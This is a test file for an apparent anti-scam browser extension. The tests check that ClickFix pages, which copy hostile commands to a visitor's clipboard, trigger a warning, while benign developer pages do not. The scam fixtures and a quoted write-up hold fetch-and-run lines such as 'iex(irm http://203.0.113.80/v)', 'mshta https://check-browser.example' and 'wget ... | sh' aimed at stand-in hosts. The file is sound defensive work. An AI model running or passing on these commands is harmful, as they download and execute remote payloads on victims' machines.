// ClickFix / FileFix end to end, in real Chromium and real Firefox with the built extension: a
// person clicks the page's "I'm not a robot" / "Verify" / "Copy path" control, the page writes a
// command to the clipboard (writeText, write + ClipboardItem, hidden textarea + execCommand, copy
// event + setData), the MAIN-world hook reports it, the ClickFix warning covers the page and the
// clipboard no longer holds the command. The developer-docs page with copy buttons stays silent
// and its copies work as without HangUp.
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { waitFor, BROWSERS } from '../lib/browsers.mjs';
import { fixtureUrl } from '../lib/fixtures.mjs';
import { withBrowser } from '../lib/session.mjs';
import { click, sleep, warned } from '../lib/driver.mjs';
import { primaryButton } from '../lib/pixels.mjs';
import { readClipboard, writeClipboard } from '../lib/clipboard.mjs';

// With HANGUP_SCREENSHOTS=1 the Chromium run saves the ClickFix warning for the README.
const SHOTS = process.env.HANGUP_SCREENSHOTS === '1'
  ? path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../docs/screenshots') : null;

const SCAM = [
  // file, host, control to click, what the page's command contains, the defanged form shown
  ['clickfix-captcha.html', 'verify-human-2165.example', '#robot', 'iwr https://cdn-verify.example', 'cdn-verify[.]example'],
  ['clickfix-cloudflare.html', 'shop-check.example', '#verify', 'mshta https://check-browser.example', 'check-browser[.]example'],
  ['clickfix-filefix.html', 'hr-portal-share.example', '#copy', 'files-hr.example', 'files-hr[.]example'],
  ['clickfix-de.html', 'browser-update-hilfe.example', '#fix', 'powershell -w 1 -enc', 'powershell -w 1 -enc'],
  ['clickfix-mac-update.html', 'safari-update-center.example', '#update', 'cdn-upd.example', 'cdn-upd[.]example'],
  // A French meeting lure copying through Document.prototype.execCommand.call; a DNS TXT payload.
  ['clickfix-meet-fr.html', 'reunion-micro-fix.example', '#fix', 'nslookup -q=txt', 'nslookup -q=txt audio[.]meet-fix-dns[.]example'],
  // One Portuguese check, four more routes: a ClipboardItem holding a Promise<Blob>; a selection
  // over the visible code box copied with execCommand; writeText in a setTimeout after the click;
  // a copy handler's clipboardData.items.add.
  ['clickfix-routes.html?via=promise', 'verif-humano-pt.example', '#check', 'conhost --headless', 'verif-cdn[.]example'],
  ['clickfix-routes.html?via=selection', 'verif-humano-pt.example', '#check', 'powershell -ec', 'start /min powershell -ec'],
  ['clickfix-routes.html?via=delayed', 'verif-humano-pt.example', '#check', 'msiexec /q /i', '203[.]0[.]113[.]44'],
  ['clickfix-routes.html?via=items', 'verif-humano-pt.example', '#check', 'certutil -urlcache', '203[.]0[.]113[.]45'],
  // A Spanish "shared document" whose Run-box steps are only in an alert() after the copy.
  ['clickfix-alert.html', 'visor-documentos.example', '#open', 'iwr https://doc-visor.example', 'doc-visor[.]example'],
  // No Win+R words (eval24): the steps only in an image with no alt text (Arabic, no word list);
  // Windows key + "type cmd" + right-click to paste (Indonesian, hidden textarea); Linux
  // Ctrl+Alt+T (a `wget | sh`); PowerShell from the Start menu (German, copy handler); FileFix
  // through an upload dialog (Polish, no padding). Each copies a command it does not show.
  ['clickfix-image-steps.html', 'tahaqquq-hawiya.example', '#verify', 'mshta http://198.51.100.23', '198[.]51[.]100[.]23/v[.]hta'],
  ['clickfix-cmd-search.html', 'rapat-mikrofon-perbaikan.example', '#fix', 'http://198.51.100.9/z.bat', '198[.]51[.]100[.]9/z[.]bat'],
  ['clickfix-linux.html', 'mirror-verify-dl.example', '#verify', 'wget -qO- http://198.51.100.4', 'hxxp://198[.]51[.]100[.]4/v [|] sh'],
  ['clickfix-startmenu.html', 'dokument-ansicht.example', '#fix', 'schrift-cdn.example.net', 'schrift-cdn[.]example[.]net'],
  ['clickfix-filefix-upload.html', 'udostepniony-dokument.example', '#copy', 'http://198.51.100.13/q4', '198[.]51[.]100[.]13/q4'],
  // A film page dressed as the player's install page on a site named after it (review 27 H3): its
  // reason to install is the page's own film, so the vendor's-guide shape excuses nothing.
  ['clickfix-player.html', 'streambox-player.example', '#copy', 'cdn.streambox-player-dl.example', 'cdn[.]streambox-player-dl[.]example'],
  // A kit on a bakery's site in the vendor's template: a decoy download from a CDN named after the
  // site, then its own without a scheme (review 30 CV-H1): one download and nothing else, or warned.
  ['clickfix-vendor-decoy.html', 'rosebakery.test', '#copy', 'cdn.files-mirror.test/s', 'dl[.]rosebakery-cdn[.]test'],
  // `powershell`, more blank space than the engine's 4 KB, then the payload (thirty-ninth
  // session): blank runs are cut before the bound, and runs of one character.
  ['clickfix-padded.html?via=writetext', 'conn-check-4410.example', '#check', 'pad-cdn.example/c.ps1', 'pad-cdn[.]example'],
  ['clickfix-padded.html?via=textarea', 'conn-check-4410.example', '#check', 'pad-cdn.example/c.ps1', 'pad-cdn[.]example'],
  ['clickfix-padded.html?via=tags', 'conn-check-4410.example', '#check', 'pad-cdn.example/c.ps1', 'pad-cdn[.]example'],
  // The payload between two fillers of no blanks (review 39 C-L1): the background reads the
  // middle's blocks with the most command words (background/clip_text.js).
  ['clickfix-padded.html?via=middle', 'conn-check-4410.example', '#check', 'pad-cdn.example/c.ps1', 'pad-cdn[.]example'],
  // The whole command between two blank fillers longer than the MAIN world's 64 K units each
  // (review 40 CF40-M2): blank runs are cut in the MAIN world first.
  ['clickfix-padded.html?via=twofill', 'conn-check-4410.example', '#check', 'pad-cdn.example/c.ps1', 'pad-cdn[.]example'],
  // The payload between two fillers of one short chunk repeated (review 42 CF42-M3): runs of
  // one repeated unit or chunk are cut in the MAIN world too. (The warning shows the command's
  // first characters, the comments; `powershell` and comments alone are no ClickFix: the
  // verdict is the payload's.)
  ['clickfix-padded.html?via=chunkfill', 'conn-check-4410.example', '#check', 'pad-cdn.example/c.ps1', 'powershell <#hold#>'],
  // The payload between two fillers of numbered lines (forty-fourth session, review 43 CF43-M1):
  // no run to cut; the MAIN world keeps the middle's blocks with the most command words.
  ['clickfix-padded.html?via=numbered', 'conn-check-4410.example', '#check', 'pad-cdn.example/c.ps1', 'powershell <#'],
  // A page whose one visible word is its button ("Weiter"), steps in an image, a hidden-window
  // download from another site's unnamed path over https (forty-fifth session, review 44 R44-H3).
  ['clickfix-lone-button.html', 'rechnung-2291.example', '#next', 'rechnung-ablage.example/d', 'rechnung-ablage[.]example/d'],
  // The check and its steps after some 86,000 characters of a harmless article, past the visible
  // text's bound (review 44 CF44-M1): with a command copied, the document's end is read too.
  ['clickfix-decoy-article.html', 'lighthouse-notes.example', '#robot', 'lamp-notes-cdn.example/v', 'lamp-notes-cdn[.]example/v'],
];

/** A real click on `selector` inside the iframe `frame` of the tab. */
async function clickInFrame(browser, tab, frame, selector) {
  if (browser.name === 'chromium') return tab.page.frameLocator(frame).locator(selector).click();
  await tab.eval(() => 0);
  const { By } = await import('selenium-webdriver');
  const d = browser.driver;
  await d.switchTo().frame(await d.findElement(By.css(frame)));
  try {
    await (await d.findElement(By.css(selector))).click();
  } finally {
    await d.switchTo().defaultContent();
  }
}

/** The stored verdict of the tab showing `url` (read from an extension page). */
async function verdictOf(browser, url) {
  const page = await browser.openExtensionPage('pages/popup.html');
  try {
    const states = await page.eval(async () => {
      const api = globalThis.browser ?? globalThis.chrome;
      return Object.values(await api.storage.session.get(null));
    });
    return states.find((s) => s?.url === url)?.verdict ?? null;
  } finally {
    await page.close();
  }
}

for (const name of BROWSERS) {
  describe(`ClickFix in ${name}`, () => {
    let browser;
    let readerUrl;
    withBrowser(name, async (env) => {
      browser = env.browser;
      readerUrl = fixtureUrl('benign-article.html', 'clipboard-reader.example');
      if (name === 'chromium') {
        await browser.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(readerUrl).origin });
      }
    });

    for (const [file, host, control, command, shown] of SCAM) {
      test(`${file}: the copy is caught, the ClickFix warning shows, the clipboard no longer holds the command`, async () => {
        const url = fixtureUrl(file, host);
        const tab = await browser.open(url);
        const before = await tab.overlay();
        assert.equal(before.present, false, 'no warning before the page writes the clipboard');
        await click(browser, tab, control);
        const seen = await waitFor(async () => {
          const o = await tab.overlay();
          return o.present && o.covers && o.visible && o.onTop ? o : null;
        }, 8000);
        assert.ok(seen, `no ClickFix warning on ${file}: ${JSON.stringify(await tab.overlay())}`);

        const verdict = await verdictOf(browser, await tab.url());
        assert.equal(verdict?.kind, 'clickfix', JSON.stringify(verdict));
        assert.ok(verdict.reasons.some((r) => r.id === 'clipboard_command'), 'the hook reported the copied command');
        assert.ok(verdict.command.includes(shown), `defanged command ${verdict.command}`);
        assert.ok(!/https?:\/\//i.test(verdict.command), `the shown command is defanged: ${verdict.command}`);

        if (name === 'chromium') {
          const text = await waitFor(() => tab.overlayText(), 5000);
          assert.match(text, /tried to make you run a command/i);
          assert.ok(text.includes(shown), `the warning shows the defanged command: ${text}`);
          assert.match(text, /Never paste a command/);
          if (SHOTS && file === 'clickfix-captcha.html') await tab.page.screenshot({ path: path.join(SHOTS, 'overlay-chromium-clickfix.png') });
        }

        const reader = await browser.open(readerUrl);
        const clip = await waitFor(async () => {
          const c = await readClipboard(browser, reader);
          return c && !c.includes(command) ? c : null;
        }, 5000);
        assert.ok(clip, `the clipboard still holds the command: ${await readClipboard(browser, reader)}`);
        assert.match(clip, /HangUp removed a command/);
        await reader.close();
        await tab.close();
      });
    }

    test('clickfix-frame.html: the check box in an iframe copies, the steps are in the top page: the ClickFix warning shows, the clipboard no longer holds the command', async () => {
      const url = fixtureUrl('clickfix-frame.html', 'secure-check-frame.example');
      const tab = await browser.open(url);
      assert.equal((await tab.overlay()).present, false, 'no warning before the page writes the clipboard');
      await clickInFrame(browser, tab, '#box', '#tick');
      const seen = await waitFor(async () => {
        const o = await tab.overlay();
        return o.present && o.covers && o.visible && o.onTop ? o : null;
      }, 8000);
      assert.ok(seen, `no ClickFix warning: ${JSON.stringify(await tab.overlay())}`);
      const verdict = await verdictOf(browser, await tab.url());
      assert.equal(verdict?.kind, 'clickfix', JSON.stringify(verdict));
      assert.ok(verdict.reasons.some((r) => r.id === 'run_instructions'), 'the steps of the top page were read with the command');
      assert.ok(verdict.command.includes('verify-cdn-frame[.]example'), `defanged command ${verdict.command}`);
      const reader = await browser.open(readerUrl);
      const clip = await waitFor(async () => {
        const c = await readClipboard(browser, reader);
        return c && !c.includes('powershell') ? c : null;
      }, 5000);
      assert.ok(clip, `the clipboard still holds the command: ${await readClipboard(browser, reader)}`);
      assert.match(clip, /HangUp removed a command/);
      await reader.close();
      await tab.close();
    });

    // A command shown to type by hand: mshta under a human check; a French Safari update's
    // `curl | zsh` from a bare IP in Terminal; an Italian Win+R `cmd /c start` of a .bat on a
    // WebDAV share at a bare IP (eval24's typed misses, invented).
    for (const [file, host, shown] of [
      ['clickfix-typed.html', 'human-check-typed.example', '203[.]0[.]113[.]61'],
      ['clickfix-typed-mac.html', 'maj-safari-urgente.example', 'hxxp://198[.]51[.]100[.]2/upd [|] zsh'],
      ['clickfix-typed-share.html', 'accesso-in-sospeso.example', '\\\\198[.]51[.]100[.]7@80\\verifica[.]bat'],
    ]) test(`${file}: a command shown to type by hand (nothing copied) gets the ClickFix warning; the clipboard stays the person's`, async () => {
      // The person's own clipboard before the visit: HangUp must not touch it.
      const reader = await browser.open(readerUrl);
      if (name === 'chromium') await reader.page.evaluate(() => navigator.clipboard.writeText('my shopping list'));
      const before = await readClipboard(browser, reader);
      const tab = await browser.open(fixtureUrl(file, host));
      const seen = await waitFor(async () => {
        const o = await tab.overlay();
        return o.present && o.covers && o.visible && o.onTop ? o : null;
      }, 8000);
      assert.ok(seen, `no ClickFix warning: ${JSON.stringify(await tab.overlay())}`);
      const verdict = await verdictOf(browser, await tab.url());
      assert.equal(verdict?.kind, 'clickfix', JSON.stringify(verdict));
      assert.ok(verdict.reasons.some((r) => r.id === 'typed_command'), JSON.stringify(verdict.reasons));
      assert.ok(!verdict.reasons.some((r) => r.id === 'clipboard_command'), 'nothing was copied');
      assert.ok(verdict.command.includes(shown), `defanged command ${verdict.command}`);
      if (name === 'chromium') {
        const text = await waitFor(() => tab.overlayText(), 5000);
        assert.match(text, /showed you a command/);
        assert.doesNotMatch(text, /on your clipboard/);
      }
      assert.equal(await readClipboard(browser, reader), before, 'the clipboard was not the page\'s to replace');
      await reader.close();
      await tab.close();
    });

    // eval25: on lock pages that never wrote the clipboard, a click or key press on the warning
    // (and "Leave this page") replaced what the person had copied with HangUp's note.
    // (Chromium only: Firefox has no `clipboardchange`, so a page's write by a route nothing sees
    // would go unnoticed there, and the note is written after every touch: clipboard_note.js
    // `SEES_CHANGES`, docs/LOCK.md.)
    test('scam-fullscreen.html: a lock scam that never writes the clipboard leaves the person\'s own clipboard text there after a click on the warning and "Leave this page" (Chromium)', { skip: name !== 'chromium' && 'Firefox has no clipboardchange: the note after every touch (docs/LOCK.md)' }, async () => {
      const reader = await browser.open(readerUrl);
      const mine = 'my own text, copied before the visit (26)';
      await writeClipboard(browser, reader, mine);
      assert.equal(await readClipboard(browser, reader), mine, 'the test could not set the clipboard');
      const tab = await browser.open(fixtureUrl('scam-fullscreen.html', 'pc-locked-7781.azurewebsites.net'));
      try {
        assert.ok(await warned(tab), `no warning: ${JSON.stringify(await tab.overlay())}`);
        await tab.clickAt(6, 6); // on the warning, away from its buttons
        await sleep(1000);
        assert.equal(await readClipboard(browser, reader), mine, 'a click on the warning replaced the clipboard of a page that never wrote it');
        if (name === 'chromium') await tab.page.bringToFront();
        const leave = primaryButton(await tab.screenshot());
        assert.ok(leave, 'no "Leave this page" button painted');
        await tab.clickAt(leave.x, leave.y);
        const at = `${browser.extBase}pages/left.html`;
        const left = await waitFor(async () => {
          if (tab.page?.isClosed()) return browser.context.pages().some((p) => p.url().startsWith(at)) || null;
          return (await tab.url()).startsWith(at) || null;
        }, 8000, 200);
        assert.ok(left, '"Leave this page" did not work');
        await sleep(1000); // (the landing page's script has run)
        assert.equal(await readClipboard(browser, reader), mine, '"Leave this page" replaced the clipboard of a page that never wrote it');
      } finally {
        await tab.close().catch(() => {});
        await reader.close().catch(() => {});
      }
    });

    test('benign-clickfix-writeup.html: a blog post about ClickFix whose copy buttons copy the quoted commands stays silent and still copies', async () => {
      await copiesSilently(fixtureUrl('benign-clickfix-writeup.html', 'blog.example-security.test'), [
        ['ps', 'powershell -w h -c "iex(irm http://203.0.113.80/v)"'],
        ['mac', 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjgwL20gfCBiYXNo | base64 -d | bash'],
      ]);
    });

    test('benign-dev-docs-frame.html: a copy button for curl | sh in an embedded frame stays silent and still copies', async () => {
      const url = fixtureUrl('benign-dev-docs-frame.html', 'docs.example-cli-frame.test');
      const tab = await browser.open(url);
      await clickInFrame(browser, tab, '#sample', '#copy');
      await new Promise((ok) => setTimeout(ok, 1500));
      assert.equal((await tab.overlay()).present, false, 'warned on a developer page after copying curl | sh from its frame');
      const verdict = await verdictOf(browser, await tab.url());
      assert.notEqual(verdict?.level, 'scam');
      const reader = await browser.open(readerUrl);
      assert.equal(await readClipboard(browser, reader), 'curl -fsSL https://example.test/install.sh | sh');
      await reader.close();
      await tab.close();
    });

    /** Each copy button of a developer page copies its command and leaves the page unwarned. */
    async function copiesSilently(url, buttons) {
      const tab = await browser.open(url);
      for (const [id, text] of buttons) {
        await click(browser, tab, `#copy-${id}`);
        await new Promise((ok) => setTimeout(ok, 1500));
        assert.equal((await tab.overlay()).present, false, `warned on a developer page after copying ${text}`);
        const reader = await browser.open(readerUrl);
        assert.equal(await readClipboard(browser, reader), text);
        await reader.close();
      }
      const verdict = await verdictOf(browser, await tab.url());
      assert.notEqual(verdict?.level, 'scam');
      await tab.close();
    }

    test('benign-dev-docs.html: copy buttons for curl | sh, curl -LO && chmod +x and npm install stay silent and still copy', async () => {
      await copiesSilently(fixtureUrl('benign-dev-docs.html', 'docs.example-cli.test'), [
        ['sh', 'curl -fsSL https://example.test/install.sh | sh'],
        ['bin', 'curl -LO https://example.test/dl/v1/darwin/example && chmod +x example'],
        ['npm', 'npm install -g example-cli'],
      ]);
    });

    test('benign-dev-docs-windows.html: PowerShell (Admin) and Run-dialog install docs stay silent and still copy', async () => {
      await copiesSilently(fixtureUrl('benign-dev-docs-windows.html', 'docs.example-cli-win.test'), [
        ['ps', 'irm https://get.example.test/install.ps1 | iex'],
        ['msi', 'msiexec /i https://dl.example.test/example-cli.msi /qn'],
      ]);
    });

    test('benign-vendor-installer.html: a tool\'s Windows install page copying installers from a code host\'s release and its CDN (Win+X, PowerShell (Admin)) stays silent and still copies', async () => {
      await copiesSilently(fixtureUrl('benign-vendor-installer.html', 'docs.hammer.test'), [
        ['exe', 'Invoke-WebRequest -Uri https://github.com/hammer-cli/hammer/releases/download/v1.8.0/hammer-1.8.0-x64.exe -OutFile .\\hammer-setup.exe; Start-Process .\\hammer-setup.exe'],
        ['msi', 'iwr https://dl.hammer-cdn.test/stable/windows -OutFile $env:TEMP\\hammer.msi; Start-Process msiexec.exe -Wait -ArgumentList "/i $env:TEMP\\hammer.msi /qn"'],
      ]);
    });

    test('benign-sysadmin-wiki.html: a wiki that shows certutil / bitsadmin downloads and a local mshta under "Win + R, type cmd" stays silent and still copies', async () => {
      await copiesSilently(fixtureUrl('benign-sysadmin-wiki.html', 'wiki.example-ops.test'), [
        ['certutil', 'certutil -urlcache -split -f https://mirror.example-ops.test/tools/sysinfo.zip C:\\Temp\\sysinfo.zip'],
        ['bits', 'bitsadmin /transfer opsjob /download /priority normal https://mirror.example-ops.test/tools/sysinfo.zip C:\\Temp\\sysinfo.zip'],
        ['decode', 'certutil -decode C:\\Temp\\report.b64 C:\\Temp\\report.pdf'],
        ['hta', 'mshta C:\\Tools\\inventory.hta'],
      ]);
    });

    test('benign-it-howto.html: an IT how-to ("open Terminal and type", its own https installer, Win+R and cmd with an intranet drive) stays silent and still copies', async () => {
      await copiesSilently(fixtureUrl('benign-it-howto.html', 'it.example-corp.test'), [
        ['upd', 'sudo softwareupdate -i -a'],
        ['vpn', 'curl -fsSL https://vpn.example-corp.test/install.sh | sudo bash'],
        ['dns', 'ipconfig /flushdns'],
        ['drive', 'cmd /c net use H: \\\\fs01\\home'],
      ]);
    });

    test('benign-it-help.html: an IT help page ("not working? To fix it", Win+X, Run box) that shows its commands stays silent and still copies', async () => {
      await copiesSilently(fixtureUrl('benign-it-help.html', 'it.northfield.test'), [
        ['teams', 'irm https://it.northfield.test/scripts/fix-teams-audio.ps1 | iex'],
        ['wifi', 'powershell -NoProfile -Command "netsh winsock reset"'],
        ['drives', 'cmd /c \\\\dc01\\netlogon\\logon.bat'],
      ]);
    });
  });
}
